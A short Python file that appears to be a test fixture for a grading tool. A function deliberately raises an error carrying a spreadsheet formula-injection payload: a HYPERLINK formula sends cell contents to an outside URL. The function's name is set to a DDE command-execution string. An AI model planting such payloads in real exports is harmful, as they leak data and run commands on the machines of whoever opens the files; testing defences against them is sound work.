# verdict: CRASH
# level: none
# stage: shapes forward dX dW db
"""Fails with a message that a spreadsheet takes for a formula."""


def affine(X, U):
    raise ValueError('=HYPERLINK("https://example.org/?"&A1&B1,"your grade")\t@SUM(1)\r-1+1')


affine.__name__ = "=cmd|' /C calc'!A0"
